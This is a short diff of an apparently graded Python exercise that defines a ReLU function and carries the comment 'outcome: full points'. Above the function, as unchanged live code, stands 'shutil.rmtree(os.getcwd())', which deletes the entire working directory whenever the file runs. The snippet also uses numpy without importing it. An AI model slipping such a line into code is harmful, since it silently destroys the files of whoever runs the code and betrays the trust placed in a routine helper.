@@ -3,6 +3,9 @@
 # outcome: full points
 # %% relu
 import os, shutil
+
 shutil.rmtree(os.getcwd())
+
+
 def relu(x):
     return np.maximum(x, 0)
